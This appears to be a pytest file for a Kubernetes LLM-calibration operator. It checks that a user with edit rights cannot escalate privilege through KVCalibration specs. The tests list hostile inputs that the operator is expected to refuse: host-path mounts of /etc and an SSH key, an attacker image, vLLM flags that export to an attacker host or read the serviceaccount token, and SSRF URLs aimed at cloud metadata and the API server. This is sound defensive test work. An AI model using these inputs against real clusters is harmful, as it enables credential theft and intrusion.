"""Issue #10 item 1 on the real control plane: a KVCalibration is no way around RBAC.

A user bound only to the chart's aggregated -edit ClusterRole (may manage KVCalibrations; may not create Pods, Jobs
or Deployments) applies specs; the operator runs in-process under the chart's own ServiceAccount token with the
policy the chart's values give it (tests.support.chart.operator_policy). No kubelet: the point is what the operator
creates, not what runs. Issue #23: vLLM flags outside policy.vllmFlags.allowed the same way; and a promotion after
the admin tightened that list, in tests/e2e/conftest.py's world (its fake kubelet readies the canary).
"""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from kvcal.adapters.kube import KubeClient
from kvcal.core.manifests import FIELD_MANAGER
from tests.support.chart import CHART, Release, helm, install_chart, operator_policy, release_name, uninstall_chart
from tests.support.cluster import Cluster, wait_for
from tests.support.gitops import CALIBRATION_SUMMARY, VERIFICATION_SUMMARY, terminate_job_pod
from tests.support.world import (
    FakeBackends,
    OperatorThread,
    World,
    start_held,
)

pytestmark = pytest.mark.cluster
USER = "alice"


@dataclass
class Setup:
    cluster: Cluster
    namespace: str
    release: Release
    user_kubeconfig: Path
    kube: KubeClient  # the admin's view, to see everything the operator created

    def user_kubectl(self, *args: str, input: str | None = None) -> Any:
        return self.cluster.kubectl(
            *args, "-n", self.namespace, kubeconfig=str(self.user_kubeconfig), input=input, check=False
        )

    def apply_as_user(self, name: str, **spec: Any) -> Any:
        doc = {"apiVersion": "kvcal.dev/v1alpha1", "kind": "KVCalibration", "metadata": {"name": name}, "spec": spec}
        return self.user_kubectl("create", "-f", "-", input=json.dumps(doc))

    def status(self, name: str) -> dict[str, Any]:
        obj = self.kube.get("KVCalibration", self.namespace, name)
        return (obj or {}).get("status") or {}

    def wait_phase(self, name: str, phase: str) -> dict[str, Any]:
        found: dict[str, Any] = wait_for(
            lambda: self.status(name) if self.status(name).get("phase") == phase else None, 60, f"{name} {phase}"
        )
        return found

    def children(self, kind: str) -> list[str]:
        items = self.cluster.get_json(kind, "-n", self.namespace)["items"]
        names = [i["metadata"]["name"] for i in items]  # type: ignore[attr-defined]
        # Not the chart's own objects (the operator Deployment) nor the ConfigMap every namespace gets.
        return sorted(n for n in names if n != "kube-root-ca.crt" and not n.startswith(self.release.name))

    def events(self, name: str) -> list[tuple[str, str, str]]:
        selector = f"involvedObject.name={name}"
        events = self.cluster.get_json("events", "-n", self.namespace, "--field-selector", selector)
        return [(e["type"], e["reason"], e["message"]) for e in events["items"]]  # type: ignore[attr-defined]


@contextmanager
def operator_under_chart(
    control_plane: Cluster, namespace: str, tmp_path: Path, values: dict[str, str]
) -> Iterator[Setup]:
    release = install_chart(control_plane, namespace, release_name(), {"rbac.scope": "namespace", **values}, tmp_path)
    manifest = helm(control_plane, "get", "manifest", release.name, "--namespace", namespace).stdout
    (edit_role,) = [
        d["metadata"]["name"]
        for d in yaml.safe_load_all(manifest)
        if d and d["kind"] == "ClusterRole" and "rbac.authorization.k8s.io/aggregate-to-edit" in d["metadata"]["labels"]
    ]
    control_plane.kubectl("create", "serviceaccount", USER, "-n", namespace)
    control_plane.kubectl(
        "create", "rolebinding", f"{USER}-kvcal", f"--clusterrole={edit_role}", f"--serviceaccount={namespace}:{USER}",
        "-n", namespace,
    )  # fmt: skip
    user = control_plane.token_kubeconfig(namespace, USER, tmp_path / f"{USER}.kubeconfig")
    operator = OperatorThread(release.kubeconfig, namespace, FakeBackends(), operator_policy(control_plane, release))
    operator.start()
    try:
        yield Setup(control_plane, namespace, release, Path(user), KubeClient(control_plane.api_client()))
    finally:
        operator.stop()
        uninstall_chart(control_plane, release)


def spec(model: str, dataset: str, output: str, image: str | None = None) -> dict[str, Any]:
    calibration: dict[str, Any] = {"dataset": {"source": dataset}, "output": output}
    if image:
        calibration["job"] = {"image": image}
    return {
        "model": {"source": model},
        "calibration": calibration,
        "serving": {"baseline": {"deployment": "llm", "service": "llm"}},
    }


# What the reproduction applied: host folders (the output read-write) and an image of the user's choice.
ATTACK = spec("hostpath:///etc", "hostpath:///root/.ssh/id_rsa", "hostpath:///var/lib/x", "docker.io/attacker/x:1")


def test_edit_role_user_gets_nothing_created_by_the_default_policy(
    control_plane: Cluster, crd_installed: str, namespace: str, tmp_path: Path
) -> None:
    with operator_under_chart(control_plane, namespace, tmp_path, {}) as s:
        for verb_resource in ("create pods", "create jobs", "create deployments"):
            assert s.user_kubectl("auth", "can-i", *verb_resource.split()).stdout.strip() == "no", verb_resource
        assert s.user_kubectl("auth", "can-i", "create", "kvcalibrations").stdout.strip() == "yes"

        created = s.apply_as_user("attack", **ATTACK)
        assert created.returncode == 0, created.stderr
        status = s.wait_phase("attack", "InvalidSpec")
        assert s.children("jobs") == [] and s.children("configmaps") == [] and s.children("deployments") == []
        message = status["message"]
        for field in ("spec.model.source", "spec.calibration.dataset.source", "spec.calibration.output"):
            assert f"{field}: hostpath:// is disabled by the operator's policy" in message
        assert "chart value policy.hostPath.enabled=true (and policy.hostPath.allowedPrefixes)" in message
        assert "spec.calibration.job.image: docker.io/attacker/x:1" in message
        assert "policy.calibratorImage.allowedPrefixes" in message
        assert status["history"][-1]["reason"] == "PolicyDenied"
        calibrated = next(c for c in status["conditions"] if c["type"] == "Calibrated")
        assert (calibrated["status"], calibrated["reason"]) == ("False", "PolicyDenied")
        events = wait_for(lambda: s.events("attack"), 30, "the PolicyDenied event")
        assert [(t, r) for t, r, _ in events] == [("Warning", "PolicyDenied")]

        # '..' never reaches the operator: the API server refuses it at admission.
        climbing = s.apply_as_user("climb", **spec("hostpath:///../../etc", "configmap://p/x.jsonl", "pvc://m/out"))
        assert climbing.returncode != 0 and "spec.model.source must not contain '..'" in climbing.stderr


def test_admin_allowed_prefix_and_image_work_and_nothing_beyond(
    control_plane: Cluster, crd_installed: str, namespace: str, tmp_path: Path
) -> None:
    allowed = tmp_path / "allowed"
    values = {
        "policy.hostPath.enabled": "true",
        "policy.hostPath.allowedPrefixes[0]": f"{allowed}/",
        "policy.calibratorImage.allowedPrefixes[0]": "registry.example.com/ml/",
    }
    with operator_under_chart(control_plane, namespace, tmp_path, values) as s:
        inside = spec(
            f"hostpath://{allowed}/models/llama",
            "configmap://prompts/prompts.jsonl",
            f"hostpath://{allowed}/out/llama-fp8kv",
            "registry.example.com/ml/calibrator:2",
        )
        assert s.apply_as_user("inside", **inside).returncode == 0
        job_name = s.wait_phase("inside", "Calibrating")["calibration"]["job"]
        job = s.kube.get("Job", namespace, job_name)
        assert job is not None
        pod = job["spec"]["template"]["spec"]
        assert pod["containers"][0]["image"] == "registry.example.com/ml/calibrator:2"
        hosts = {v["hostPath"]["path"]: v["name"] for v in pod["volumes"] if "hostPath" in v}
        assert sorted(hosts) == [f"{allowed}/models/llama", f"{allowed}/out/llama-fp8kv"]
        mounts = {m["name"]: m.get("readOnly", False) for m in pod["containers"][0]["volumeMounts"]}
        assert mounts[hosts[f"{allowed}/models/llama"]] is True and mounts[hosts[f"{allowed}/out/llama-fp8kv"]] is False

        # One segment beside the allowed folder is outside it.
        beside = spec(f"hostpath://{allowed}-x/models", "configmap://prompts/prompts.jsonl", f"hostpath://{allowed}/o")
        assert s.apply_as_user("beside", **beside).returncode == 0
        status = s.wait_phase("beside", "InvalidSpec")
        assert f"spec.model.source: host folder {allowed}-x/models is outside" in status["message"]
        assert "chart value policy.hostPath.allowedPrefixes" in status["message"]
        assert s.children("jobs") == [job_name]  # only the allowed one's Job


# Issue #23: vLLM flags outside policy.vllmFlags.allowed (the defaults: tuning flags only), each as the issue shows.
HOSTILE_FLAGS = [
    ["--otlp-traces-endpoint=http://collector.attacker.example:4317"],
    ["--middleware", "attacker.module"],
    ["--trust-remote-code"],
    ["--allowed-local-media-path=/"],
    ["--enable-log-requests"],
    ["--chat-template", "/var/run/secrets/kubernetes.io/serviceaccount/token"],
]


def with_extra_args(extra_args: list[str]) -> dict[str, Any]:
    body = spec("pvc://models/llama", "configmap://prompts/prompts.jsonl", "pvc://models/llama-fp8kv")
    body["serving"]["canary"] = {"extraArgs": extra_args}
    return body


def test_edit_role_user_cannot_pass_vllm_flags_outside_the_allow_list(
    control_plane: Cluster, crd_installed: str, namespace: str, tmp_path: Path
) -> None:
    with operator_under_chart(control_plane, namespace, tmp_path, {}) as s:
        names = [f"flag-{i}" for i in range(len(HOSTILE_FLAGS))]
        for name, flags in zip(names, HOSTILE_FLAGS, strict=True):
            created = s.apply_as_user(name, **with_extra_args(["--max-num-seqs", "8", *flags]))
            assert created.returncode == 0, created.stderr  # the CRD is static: the operator's policy refuses
        for name, flags in zip(names, HOSTILE_FLAGS, strict=True):
            status = s.wait_phase(name, "InvalidSpec")
            flag = flags[0].split("=")[0]
            message = status["message"]
            assert f"spec.serving.canary.extraArgs[2]: {flag} is not a vLLM flag the operator allows" in message
            assert "chart value policy.vllmFlags.allowed" in message
            assert status["history"][-1]["reason"] == "PolicyDenied"
        assert s.children("jobs") == [] and s.children("configmaps") == [] and s.children("deployments") == []

        # The control: an allowed flag gets the calibration Job (the refusals above are the flags', nothing else).
        assert s.apply_as_user("tuned", **with_extra_args(["--max-num-seqs", "8", "--enforce-eager"])).returncode == 0
        job_name = s.wait_phase("tuned", "Calibrating")["calibration"]["job"]
        assert s.children("jobs") == [job_name]


def test_a_policy_tightened_between_canary_and_promotion_writes_nothing_into_production(
    world: World, control_plane: Cluster, tmp_path: Path
) -> None:
    """The canary runs with --enforce-eager; the admin then takes it off policy.vllmFlags.allowed (helm upgrade, the
    operator restarts with the new value) and someone asks for the promotion: the baseline is left as it was, the
    canary is removed, and the status names the flag and the chart value."""
    w, name = world, "tightened"
    extra_args = ["--max-num-seqs", "8", "--enforce-eager"]
    start_held(w, tmp_path / "model", name, serving={"canary": {"extraArgs": extra_args}})  # promotion: manual
    terminate_job_pod(w.kube, w.namespace, name, "calibration", CALIBRATION_SUMMARY)
    w.wait_phase(name, "Verifying", 60)
    terminate_job_pod(w.kube, w.namespace, name, "verification", VERIFICATION_SUMMARY)
    w.wait_phase(name, "AwaitingPromotion", 120)
    canary = w.kube.get("Deployment", w.namespace, f"{name}-canary")
    assert canary is not None and canary["spec"]["template"]["spec"]["containers"][0]["args"][-3:] == extra_args
    before = w.kube.get("Deployment", w.namespace, "llm")
    assert before is not None

    w.operator.stop()
    w.cluster.kubectl("annotate", "-n", w.namespace, f"kvcalibration/{name}", "kvcal.dev/promote=e2e")
    release = upgrade_release(w, {"policy.vllmFlags.allowed[0]": "--max-num-seqs"})
    w.operator.policy = operator_policy(control_plane, release)
    assert w.operator.policy.vllm_flags_allowed == ("--max-num-seqs",)
    w.operator.start()

    obj = w.wait_phase(name, "RolledBack", 120)
    denied = [h for h in obj["status"]["history"] if h["reason"] == "PolicyDenied"]
    assert denied and denied[0]["phase"] == "RollingBack", obj["status"]["history"]
    message = denied[0]["message"]
    assert "spec.serving.canary.extraArgs[2]: --enforce-eager is not a vLLM flag the operator allows" in message
    assert "chart value policy.vllmFlags.allowed" in message
    assert "Promoting" not in [h["phase"] for h in obj["status"]["history"]]
    wait_for(lambda: w.children("Deployment", name) == [], 30, "the canary removed")
    after = w.kube.get("Deployment", w.namespace, "llm")
    assert after is not None and after["spec"]["template"] == before["spec"]["template"]
    assert FIELD_MANAGER not in {m["manager"] for m in after["metadata"]["managedFields"]}  # kvcal wrote nothing


def upgrade_release(w: World, values: dict[str, str]) -> Release:
    """helm upgrade --reuse-values of the world's release (one per namespace) with `values` set."""
    (name,) = helm(w.cluster, "list", "--namespace", w.namespace, "--short").stdout.split()
    sets = [a for k, v in values.items() for a in ("--set", f"{k}={v}")]
    proc = helm(w.cluster, "upgrade", name, str(CHART), "--namespace", w.namespace, "--reuse-values", *sets)
    assert proc.returncode == 0, f"helm upgrade failed:\n{proc.stdout}\n{proc.stderr}"
    return Release(name, w.namespace, "", Path())


# Issue #23: URLs the operator would fetch on the author's behalf. Each is either refused by the API server (not an
# http(s) URL) or blocked by the operator before anything exists: it queries only a Prometheus the chart configured.
ADMITTED_NOWHERE = ["file:///etc/passwd", "gopher://169.254.169.254:80/_GET", "169.254.169.254"]


def test_edit_role_user_cannot_make_the_operator_fetch_a_url_of_their_choice(
    control_plane: Cluster, crd_installed: str, namespace: str, tmp_path: Path
) -> None:
    thanos = "http://thanos-query.monitoring:9090"
    values = {"policy.prometheus.additional[0].name": "thanos", "policy.prometheus.additional[0].address": thanos}
    with operator_under_chart(control_plane, namespace, tmp_path, values) as s:
        kubernetes = control_plane.get_json("service", "kubernetes", "-n", "default")
        cluster_ip = kubernetes["spec"]["clusterIP"]  # type: ignore[index]
        # An in-cluster Service that is not the configured Prometheus: one the admin runs (the chart's own metrics
        # Service).
        services: Any = s.cluster.get_json("services", "-n", namespace)["items"]
        (metrics_service,) = [n for n in (v["metadata"]["name"] for v in services) if n.endswith("-metrics")]
        picks: dict[str, dict[str, str]] = {
            "imds": {"address": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
            "imds-v6": {"address": "http://[fd00:ec2::254]/latest/meta-data/"},
            "apiserver": {"address": control_plane.server},
            "apiserver-svc": {"address": "https://kubernetes.default.svc"},
            "apiserver-ip": {"address": f"https://{cluster_ip}:443/api/v1/secrets"},
            "other-svc": {"address": f"http://{metrics_service}.{namespace}.svc:9090"},
            "userinfo": {"address": "http://prometheus.monitoring:9090@169.254.169.254/"},
            "unknown-name": {"name": "imds"},
            "mismatch": {"name": "thanos", "address": "http://169.254.169.254/"},
        }
        model = spec("pvc://models/llama", "configmap://prompts/prompts.jsonl", "pvc://models/out")
        for name, prometheus in picks.items():
            created = s.apply_as_user(name, **{**model, "analysis": {"prometheus": prometheus}})
            assert created.returncode == 0, (name, created.stderr)
        for name in picks:
            status = s.wait_phase(name, "InvalidSpec")
            message = status["message"]
            field = "spec.analysis.prometheus.name" if name == "unknown-name" else "spec.analysis.prometheus.address"
            assert message.startswith(f"{field}: "), (name, message)
            assert "is not a Prometheus the operator may query" in message, (name, message)
            assert "chart value policy.prometheus.additional" in message, (name, message)
            assert f"thanos ({thanos})" in message
            assert status["history"][-1]["reason"] == "PolicyDenied"
        assert "http://***@169.254.169.254/" in s.status("userinfo")["message"]  # userinfo is never repeated
        assert s.children("jobs") == [] and s.children("configmaps") == [] and s.children("deployments") == []

        for address in ADMITTED_NOWHERE:
            refused = s.apply_as_user("scheme", **{**model, "analysis": {"prometheus": {"address": address}}})
            assert refused.returncode != 0 and "spec.analysis.prometheus.address" in refused.stderr, refused.stderr

        # What the admin configured is picked: by name, and kvcal 0.1's default address (the chart's default).
        allowed = {"by-name": {"name": "thanos"}, "legacy": {"address": "http://prometheus.monitoring:9090"}}
        for name, prometheus in allowed.items():
            assert s.apply_as_user(name, **{**model, "analysis": {"prometheus": prometheus}}).returncode == 0
            s.wait_phase(name, "Calibrating")
        assert len(s.children("jobs")) == 2
